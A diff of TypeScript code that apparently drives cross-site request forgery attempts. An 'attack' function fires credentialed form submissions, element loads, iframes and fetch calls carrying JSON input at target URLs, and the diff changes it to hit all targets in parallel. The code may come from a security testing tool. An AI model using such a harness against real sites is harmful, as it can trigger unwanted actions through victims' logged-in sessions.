@@ -76,7 +76,7 @@ export async function attack(targets: Target[]): Promise<void> {
   }
 
   const types = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "application/json"];
-  for (const [index, target] of targets.entries()) {
+  const attackOne = async (target: Target, index: number): Promise<void> => {
     const input = `${target.url}?input=${encodeURIComponent(target.json)}`;
     for (const enctype of types.slice(0, 3)) await submitForm(target, "POST", enctype, `post-${index}-${enctype}`);
     await submitForm(target, "GET", "", `get-${index}`);
@@ -107,5 +107,6 @@ export async function attack(targets: Target[]): Promise<void> {
     for (const tag of ["img", "script", "link", "video"] as const) await loadElement(tag, input);
     await intoFrame(`frame-${index}`, (frame) => frame.setAttribute("src", input));
     await settle(fetch(input, { mode: "no-cors", credentials: "include", keepalive: true }));
-  }
+  };
+  await Promise.all(targets.map(attackOne));
 }
